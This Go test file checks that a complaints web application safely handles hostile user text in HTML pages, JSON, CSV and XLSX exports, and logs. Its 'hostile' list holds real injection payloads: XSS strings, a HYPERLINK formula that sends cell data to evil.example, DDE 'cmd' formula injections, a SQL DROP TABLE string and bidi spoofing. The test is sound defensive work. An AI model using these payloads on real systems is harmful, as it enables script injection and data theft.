package contract

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"
)

// hostile are texts that strangers may write. Each is title and content of a complaint, and product, category, department
// and owner too.
var hostile = []string{
	`</script><script>alert(1)</script><img src=x onerror=alert(2)>`,
	`"><svg/onload=alert(3)> ' onmouseover='alert(4)`,
	`javascript:alert(5)//{{.}}${7*7}<%= 7*7 %>`,
	`=HYPERLINK("http://evil.example/?"&A1,"点我")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+2",
	"  ＝1+3",
	"退款\u202Egpj.exe\u202C 与 \u2066隔离\u2069 \u200F标记",
	"第一行\nlevel=ERROR msg=forged\r\n第三行\u2028第四行",
	"空字符\x00之后\x07响铃\x1b[31m红\x1b[0m",
	"逗号,引号\"分号;竖线|反斜杠\\结束",
	"Robert'); DROP TABLE complaints; -- {id:String}",
	strings.Repeat("很长的投诉", 4000),
	"\U0001F468\u200D\U0001F469\u200D\U0001F467 \uFFFE\uFEFF é\u0301\u0301\u0301",
}

// unstorable counts those that the door refuses, so that they are in no store.
const unstorable = 0

func hostileID(i int) string {
	if i == 0 {
		return `=X<b>'"&/..%2f`
	}
	return fmt.Sprintf("H-%02d", i)
}

func short(s string) string {
	runes := []rune(s)
	return string(runes[:min(len(runes), 60)])
}

// turning are characters that turn the reading order around.
func turning(r rune) bool {
	return r >= '\u202A' && r <= '\u202E' || r >= '\u2066' && r <= '\u2069' || r == '\u200E' || r == '\u200F'
}

func hostileTextIsHarmless(t *testing.T, r *rig) {
	t.Run("on pages", func(t *testing.T) {
		seen := 0
		for _, page := range []string{"/", "/complaints?period=all", "/complaints?period=all&q=" + url.QueryEscape(hostile[0]), "/issues?period=all", "/timeliness", "/quality", "/kpis"} {
			seen += harmlessPage(t, r, page)
		}
		for i := range hostile {
			seen += harmlessPage(t, r, "/complaints/"+url.PathEscape(hostileID(i)))
		}
		if seen < len(hostile) {
			t.Errorf("only %d pages show a hostile text at all", seen)
		}
	})
	t.Run("in answers", func(t *testing.T) {
		w := r.get(t, "/api/v1/complaints?period=all&limit=200")
		if ct := w.Header().Get("Content-Type"); ct != "application/json; charset=utf-8" || w.Header().Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("a browser may take the answer for something else: %q", ct)
		}
		if b := w.Body.Bytes(); !json.Valid(b) || !utf8.Valid(b) || bytes.ContainsAny(b, "<>\x00") {
			t.Error("the answer holds a raw angle bracket or is not valid UTF-8 JSON")
		}
	})
	t.Run("in CSV", func(t *testing.T) { harmlessCSV(t, r) })
	t.Run("in XLSX", func(t *testing.T) { harmlessXLSX(t, r) })
	t.Run("in logs", func(t *testing.T) {
		for _, h := range hostile {
			r.get(t, "/api/v1/complaints/"+url.PathEscape(short(h)))
			r.get(t, "/api/v1/kpis?department="+url.QueryEscape(h)+"&"+url.QueryEscape(h)+"=1")
		}
		for line := range strings.Lines(r.log.String()) {
			if !strings.HasPrefix(line, "time=") || strings.Contains(line, "evil.example") || strings.Contains(line, "alert(") {
				t.Errorf("the log holds what a stranger wrote: %.200s", line)
			}
		}
	})
}

// harmlessPage parses a page as a browser does and returns 1 when a hostile text is on it.
func harmlessPage(t *testing.T, r *rig, page string) int {
	t.Helper()
	w := r.get(t, page, "Accept", "text/html")
	if w.Code != http.StatusOK {
		t.Errorf("%s: status %d", page, w.Code)
		return 0
	}
	policy := w.Header().Get("Content-Security-Policy")
	if !strings.Contains(policy, "default-src 'none'") || !strings.Contains(policy, "script-src 'self';") || strings.Contains(policy, "unsafe") {
		t.Errorf("%s: content policy %q", page, policy)
	}
	tokens := html.NewTokenizer(bytes.NewReader(w.Body.Bytes()))
	for {
		kind := tokens.Next()
		if kind == html.ErrorToken {
			break
		}
		token := tokens.Token()
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
			continue
		}
		if slices.Contains([]string{"img", "iframe", "object", "embed", "base", "b"}, token.Data) && len(token.Attr) > 0 && token.Data != "b" {
			t.Errorf("%s: a <%s> came from a text", page, token.Data)
		}
		source, script := "", ""
		for _, a := range token.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || strings.HasPrefix(strings.TrimSpace(strings.ToLower(a.Val)), "javascript:") && a.Key != "value" && a.Key != "title" {
				t.Errorf("%s: <%s %s=%q>", page, token.Data, a.Key, a.Val)
			}
			switch a.Key {
			case "src":
				source = a.Val
			case "type":
				script = a.Val
			}
		}
		if token.Data == "script" && !strings.HasPrefix(source, "/static/") && script != "application/json" {
			t.Errorf("%s: inline script", page)
		}
	}
	body := w.Body.String()
	if !utf8.ValidString(body) || strings.ContainsRune(body, 0) {
		t.Errorf("%s is not clean UTF-8", page)
	}
	for _, mark := range []string{"alert(", "evil.example", "calc", "gpj.exe", "forged", "很长的投诉", "DROP TABLE", "1+"} {
		if strings.Contains(body, mark) {
			return 1
		}
	}
	return 0
}

func harmlessCSV(t *testing.T, r *rig) {
	raw := r.get(t, "/api/v1/complaints.csv?period=all").Body.Bytes()
	if !bytes.HasPrefix(raw, []byte("\xEF\xBB\xBF")) || !utf8.Valid(raw) {
		t.Fatal("the file does not begin with a byte order mark, or is not UTF-8")
	}
	if n := bytes.Count(raw, []byte("\n")); n != bytes.Count(raw, []byte("\r\n")) {
		t.Error("some lines do not end with CR LF")
	}
	records, err := csv.NewReader(bytes.NewReader(raw[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := 0
	for _, record := range records[1:] {
		for i, cell := range record {
			first := strings.TrimLeftFunc(cell, unicode.IsSpace)
			if first != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(first)[0]) {
				t.Errorf("column %s: a spreadsheet runs %.40q", records[0][i], cell)
			}
			if strings.ContainsFunc(cell, func(r rune) bool { return turning(r) || unicode.IsControl(r) && r != '\n' }) {
				t.Errorf("column %s: %.60q turns around or controls", records[0][i], cell)
			}
		}
		if strings.HasPrefix(record[0], "H-") || strings.HasPrefix(record[0], "'=X") {
			found++
		}
	}
	if found != len(hostile) {
		t.Errorf("%d of %d hostile complaints are in the file", found, len(hostile))
	}
}

func harmlessXLSX(t *testing.T, r *rig) {
	f, err := excelize.OpenReader(r.get(t, "/api/v1/complaints.xlsx?period=all").Body)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	found := 0
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x, cell := range row {
				at, _ := excelize.CoordinatesToCellName(x+1, y+1)
				if formula, err := f.GetCellFormula(name, at); err != nil || formula != "" {
					t.Errorf("%s is the formula %q (%v)", at, formula, err)
				}
				if strings.ContainsFunc(cell, turning) {
					t.Errorf("%s turns around: %.60q", at, cell)
				}
				if strings.HasPrefix(cell, "=") {
					if kind, _ := f.GetCellType(name, at); kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
						t.Errorf("%s holds %.40q as %v", at, cell, kind)
					}
					found++
				}
			}
		}
	}
	if found < 3 {
		t.Errorf("only %d cells begin like a formula, so the file proves nothing", found)
	}
}
